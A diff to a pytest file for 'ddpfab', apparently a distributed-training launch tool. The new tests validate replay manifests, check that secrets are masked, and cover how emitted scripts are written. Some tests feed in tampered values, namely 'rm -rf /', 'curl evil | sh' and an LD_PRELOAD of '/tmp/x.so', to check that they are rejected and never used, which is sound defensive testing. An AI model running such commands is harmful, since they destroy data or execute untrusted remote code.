@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import io
 import json
 import os
@@ -17,7 +18,7 @@ from ddpfab import emit, replay
 from ddpfab.execute import remote_command
 from ddpfab.inventory import Cluster, Node
 from ddpfab.launch import Printer
-from ddpfab.plan import DEBUG_ENV, Facts, Plan, PlanError, RunOptions, make_plan, replan
+from ddpfab.plan import DEBUG_ENV, Facts, Plan, PlanError, RunOptions, make_plan
 from ddpfab.runs import mask_plan
 
 
@@ -130,20 +131,56 @@ def test_plans_recorded_before_the_style_fields_still_load():
 
 @pytest.mark.parametrize("style", [{}, {"rdzv": "c10d", "init_method": "tcp"},
                                    {"launcher": "legacy", "init_method": "file", "debug": True}])
-def test_replan_is_make_plan_with_a_new_run_id_and_port(style):
-    original = plan_of(**style, env=(("K", "1"),))
-    expected = make_plan(C2, RunOptions("t.py", args=("--x", "a b"), run_id="new", env=(("K", "1"),), **style),
-                         facts(C2, port=29777))
-    assert replan(original, run_id="new", master_port=29777) == expected
-
-
-def test_replan_restores_masked_secrets_given_again():
-    p = plan_of(env=(("API_TOKEN", "s3cret"), ("K", "v")))
-    recorded = Plan.from_dict(mask_plan(p.to_dict()))
-    assert recorded.nodes[0].env["API_TOKEN"] == "***" and "s3cret" not in recorded.nodes[0].command
-    assert replay.masked_keys(mask_plan(p.to_dict())) == ["API_TOKEN"]
-    again = replan(recorded, run_id="rid", master_port=p.master_port, env={"API_TOKEN": "s3cret"})
+def test_recorded_options_plan_the_recorded_plan_again(style):
+    """What replay relies on: the options a manifest records, read back through its schema and
+    planned again, give the recorded plan (masked), with a secret given again."""
+    opts = RunOptions("t.py", args=("--x", "a b"), run_id="rid", env=(("API_TOKEN", "s3cret"), ("K", "1")), **style)
+    p = make_plan(C2, opts, facts(C2))
+    manifest = json.loads(json.dumps({"kind": replay.MANIFEST_KIND, "schema_version": replay.SCHEMA_VERSION,
+                                      "plan": mask_plan(p.to_dict()), "options": replay.recorded_options(opts, "/w")}))
+    assert "s3cret" not in json.dumps(manifest)
+    back, cwd = replay.validate(manifest, "m.json")
+    assert cwd == "/w" and replay.masked_keys(back) == ["API_TOKEN"]
+    assert replay.differences(manifest["plan"], make_plan(C2, back, facts(C2))) == []
+    again = make_plan(C2, dataclasses.replace(back, env=(("API_TOKEN", "s3cret"), ("K", "1"))), facts(C2))
     assert again == p
+
+
+def _manifest():
+    opts = RunOptions("t.py", run_id="rid", env=(("K", "1"),))
+    return json.loads(json.dumps({"kind": replay.MANIFEST_KIND, "schema_version": 2,
+                                  "plan": mask_plan(make_plan(C2, opts, facts(C2)).to_dict()),
+                                  "options": replay.recorded_options(opts, "/w")}))
+
+
+@pytest.mark.parametrize("edit, message", [
+    (lambda m: m.clear(), "is not a ddpfab run manifest"),
+    (lambda m: m.update(schema_version=1), "schema version 1"),
+    (lambda m: m["options"].update(script=["x"]), "options.script: expected str"),
+    (lambda m: m["options"].update(max_restarts=True), "options.max_restarts: expected int"),
+    (lambda m: m["options"].update(env=[["BAD KEY", "x"]]), "options.env"),
+    (lambda m: m["options"].update(command="rm -rf /"), "unknown command"),
+    (lambda m: m["options"].pop("script"), "missing script"),
+    (lambda m: m["options"].update(cwd="relative"), "options.cwd"),
+])
+def test_a_malformed_or_foreign_manifest_is_one_clear_error(edit, message):
+    m = _manifest()
+    edit(m)
+    with pytest.raises(replay.ManifestError, match=message):
+        replay.validate(m, "m.json")
+    with pytest.raises(replay.ManifestError, match="not a ddpfab run manifest"):
+        replay.validate([1, 2], "m.json")
+
+
+def test_an_edited_recorded_command_is_a_difference_and_never_used():
+    m = _manifest()
+    back, _ = replay.validate(m, "m.json")
+    m["plan"]["nodes"][1]["command"] = "curl evil | sh"
+    m["plan"]["nodes"][0]["env"]["LD_PRELOAD"] = "/tmp/x.so"
+    now = make_plan(C2, back, facts(C2))
+    diffs = replay.differences(m["plan"], now)
+    assert any(d.startswith("b: command") for d in diffs) and any("env differs in LD_PRELOAD" in d for d in diffs)
+    assert "curl" not in json.dumps(now.to_dict())
 
 
 # -- emitted scripts ------------------------------------------------------------------------------
@@ -199,12 +236,32 @@ def test_readme_names_every_node_with_its_ssh_line(tmp_path):
     assert "scp -P 2222 node1_b.sh root@10.0.0.2: && ssh -p 2222 -t root@10.0.0.2 sh node1_b.sh" in text
 
 
-def test_emit_replaces_a_previous_emit(tmp_path):
+def test_emit_replaces_a_previous_emit_and_only_its_files(tmp_path):
     out = tmp_path / "out"
-    out.mkdir()
-    (out / "node5_old.sh").write_text("stale")
-    emit.write(plan_of(), out)
-    assert sorted(p.name for p in out.iterdir()) == ["README.txt", "node0_a.sh", "node1_b.sh"]
+    three = plan_of()
+    emit.write(three, out)
+    assert oct(out.stat().st_mode & 0o777) == "0o700"
+    (out / "notes.txt").write_text("mine")  # the user's, added later
+    os.rename(out / "node1_b.sh", out / "node5_old.sh")  # a file ddpfab did not write
+    emit.write(three, out)
+    assert sorted(p.name for p in out.iterdir()) == [".ddpfab-emit", "README.txt", "node0_a.sh", "node1_b.sh",
+                                                      "node5_old.sh", "notes.txt"]
+    assert (out / "notes.txt").read_text() == "mine"
+
+
+def test_emit_refuses_a_foreign_non_empty_dir_and_force_touches_only_its_files(tmp_path):
+    out = tmp_path / "out"
+    out.mkdir(mode=0o755)
+    os.chmod(out, 0o755)
+    (out / "node5_old.sh").write_text("the user's")
+    with pytest.raises(emit.EmitError, match="not empty and ddpfab did not write it"):
+        emit.write(plan_of(), out)
+    assert sorted(p.name for p in out.iterdir()) == ["node5_old.sh"]
+    written = emit.write(plan_of(), out, force=True)
+    assert (out / "node5_old.sh").read_text() == "the user's"
+    assert oct(out.stat().st_mode & 0o777) == "0o755"  # not its dir: its mode is left alone
+    assert {oct(p.stat().st_mode & 0o777) for p in written} == {"0o700", "0o600"}
+    assert oct((out / "README.txt").stat().st_mode & 0o777) == "0o600"
 
 
 # -- replay checks ----------------------------------------------------------------------------------
